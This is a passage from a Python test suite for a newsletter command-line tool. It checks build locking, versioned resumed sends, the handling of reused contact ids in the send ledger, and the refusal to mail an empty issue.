    sent = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert sent.exit_code == 0, sent.output
    copy = workspace / "templates" / "email.txt"
    copy.write_text(copy.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    stale = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert stale.exit_code == 1
    assert "the build is older than the templates (changed since)" in stale.stderr


def test_a_build_waits_for_another_build_of_the_same_issue_instead_of_removing_its_stage(workspace):
    """`preview` and `build` at once: the second waits at the build lock, then builds; neither fails."""
    import threading

    from newsletter.fsutil import folder_lock

    build_dir = workspace / "build" / "2024-q2"
    assert invoke(workspace, "build", "2024-q2", "--format", "text").exit_code == 0
    results = []
    with folder_lock(build_dir.parent):  # another build is swapping its stage in
        worker = threading.Thread(
            target=lambda: results.append(invoke(workspace, "build", "2024-q2", "--format", "email,text"))
        )
        worker.start()
        worker.join(timeout=3)
        assert worker.is_alive() and not results  # waiting, and nothing of the other build was touched
    worker.join(timeout=60)
    assert results and results[0].exit_code == 0, results[0].output if results else "no result"
    assert (build_dir / "email.html").exists()


def test_a_send_resumed_after_the_issue_changed_says_so_and_mails_the_rest_only_with_changed(workspace, smtp):
    """Half the list mailed, then a word of the issue corrected and the issue rebuilt: the next run does not
    mail the rest another text unremarked. It refuses, naming both ways on; with --changed it sends, and
    `send status` tells how many got which version."""
    mailing_workspace(workspace, smtp.port, 4)
    first = invoke(workspace, "send", "2024-q2", "--tag", "helse", "--yes")  # persons 1 and 3
    assert first.exit_code == 0, first.output
    issue_file = workspace / "issues" / "2024-q2.yaml"
    issue_file.write_text(
        issue_file.read_text(encoding="utf-8").replace("strukturert utviklingsarbeid", "strukturert endringsarbeid"),
        encoding="utf-8",
    )
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    refused = invoke(workspace, "send", "2024-q2", "--yes")
    assert refused.exit_code == 1
    message = " ".join(refused.stderr.split())
    assert "the e-mail of this build differs from the one 2 recipients got (the last at " in message
    assert "run `newsletter send 2024-q2 --changed`" in message
    assert "`git checkout issues/2024-q2.yaml` if it was committed) and run `newsletter build 2024-q2`" in message
    assert len(smtp.messages) == 2  # nothing more was mailed
    with Store(workspace / "var" / "newsletter.db") as store:
        assert store.send_counts("2024-q2")["pending"] == 0  # nor recorded: the ledger is as the first run left it

    sent = invoke(workspace, "send", "2024-q2", "--yes", "--changed")
    assert sent.exit_code == 0, sent.output
    assert "2 recipients got an earlier version of the e-mail (until " in sent.stdout
    bodies = {rcpt: b"endringsarbeid" in data for rcpt, data in smtp.messages}
    assert bodies == {
        "person001@example.org": False,
        "person003@example.org": False,
        "person000@example.org": True,
        "person002@example.org": True,
    }
    status = invoke(workspace, "send", "status", "2024-q2").stdout
    [line] = [line for line in status.splitlines() if line.startswith("versions of the e-mail sent")]
    assert re.fullmatch(
        r"versions of the e-mail sent, earliest first: 2 version [0-9a-f]{12} \(last at .+\); "
        r"2 version [0-9a-f]{12} \(last at .+\)",
        line,
    ), line
    versions = json.loads(invoke(workspace, "send", "status", "2024-q2", "--json").stdout)["versions"]
    assert [v["recipients"] for v in versions] == [2, 2] and versions[0]["version"] != versions[1]["version"]


def test_a_rebuild_of_the_same_issue_is_the_same_version(workspace, smtp):
    """A build made again from the same file is byte for byte the same e-mail: the rest are mailed without
    --changed, and status names one version."""
    mailing_workspace(workspace, smtp.port, 4)
    assert invoke(workspace, "send", "2024-q2", "--tag", "helse", "--yes").exit_code == 0
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    rest = invoke(workspace, "send", "2024-q2", "--yes")
    assert rest.exit_code == 0, rest.output
    assert "earlier version" not in rest.output and len(smtp.messages) == 4
    assert "versions of the e-mail" not in invoke(workspace, "send", "status", "2024-q2").stdout


def test_changed_is_refused_with_a_test_copy_or_status(workspace):
    copy = invoke(workspace, "send", "2024-q2", "--to", "kari@example.no", "--changed")
    assert copy.exit_code == 2 and "--changed: not with --to" in copy.output
    status = invoke(workspace, "send", "status", "2024-q2", "--changed")
    assert status.exit_code == 2 and "--changed: not with `send status ID`" in status.output


def test_a_contact_removed_mid_send_is_not_mailed_though_a_contact_added_since_would_take_its_id(workspace, smtp):
    """SQLite gives a new row the largest id plus one: removing the newest contact and adding another
    gave the new one the removed one's id, and the ledger's row of the removed address read as the new,
    active contact's and was mailed. Ids are never given twice now, and a row whose contact has another
    address is the removed contact's."""
    mailing_workspace(workspace, smtp.port, 0, mail="max_outage: 0.5\nretry_base: 0.01")
    for address in ("a@example.org", "b@example.org"):
        assert invoke(workspace, "contacts", "add", address).exit_code == 0
    smtp.down_after = 0  # the server goes away at once: both stay pending in the ledger
    assert invoke(workspace, "send", "2024-q2", "--yes").exit_code == 1
    with Store(workspace / "var" / "newsletter.db") as store:
        assert store.send_counts("2024-q2")["pending"] == 2
    assert invoke(workspace, "contacts", "remove", "b@example.org").exit_code == 0
    assert invoke(workspace, "contacts", "add", "c@example.org").exit_code == 0
    smtp.down_after = None
    result = invoke(workspace, "send", "2024-q2", "--yes")
    assert result.exit_code == 0, result.output
    assert sorted(smtp.copies()) == ["a@example.org", "c@example.org"]
    with Store(workspace / "var" / "newsletter.db") as store:
        ids = dict(store.db.execute("SELECT email, contact_id FROM sends WHERE issue = '2024-q2'").fetchall())
        assert len(set(ids.values())) == 3, ids  # b's id was not given to c
        assert store.ledger_states("2024-q2")["b@example.org"] == "failed"
    assert "failed b@example.org: skipped: removed from the contact list after the send started" in result.stderr
    assert "see `newsletter send status" not in result.stderr  # nothing to retry: settled


def test_a_store_whose_ids_were_given_twice_still_skips_the_removed_address(workspace, smtp):
    """A store from before schema 10 may already hold a ledger row under an id another contact has now:
    the row's address is not that contact's, so it is the removed one's, and not mailed."""
    mailing_workspace(workspace, smtp.port, 0)
    assert invoke(workspace, "contacts", "add", "c@example.org").exit_code == 0
    with Store(workspace / "var" / "newsletter.db") as store:
        (contact_id,) = store.db.execute("SELECT id FROM contacts WHERE email = 'c@example.org'").fetchone()
        store.db.execute(
            "INSERT INTO sends (issue, email, contact_id, position, state) VALUES ('2024-q2', 'b@example.org', ?, 0, "
            "'pending')",
            (contact_id,),
        )
    assert invoke(workspace, "send", "2024-q2", "--yes").exit_code == 0
    assert sorted(smtp.copies()) == ["c@example.org"]


def test_an_issue_without_entries_is_not_sent(workspace, smtp):
    """`issue new`, a publication date, build, send: every contact would get a masthead and a footer, and the
    record would say the quarter was all left out. check warns; send refuses; a dry run and a test copy work."""
    mailing_workspace(workspace, smtp.port, 2)
    assert invoke(workspace, "issue", "new", "2024-q3").exit_code == 0
    path = workspace / "issues" / "2024-q3.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("published:\n", "published: 2024-10-01\n"), "utf-8")
    check = invoke(workspace, "issue", "check", "2024-q3")
    assert "the issue has no entries yet: add items (`newsletter issue add 2024-q3 ITEM`)" in check.output, check.output
    assert invoke(workspace, "build", "2024-q3", "--format", "email,text").exit_code == 0
    refused = invoke(workspace, "send", "2024-q3", "--yes")
    assert refused.exit_code == 1
    assert "2024-q3 has no entries: subscribers would get only its masthead and footer" in refused.stderr
    assert smtp.messages == [] and not (workspace / "issues" / "2024-q3.decisions.jsonl").exists()
    assert invoke(workspace, "send", "2024-q3", "--dry-run").exit_code == 0
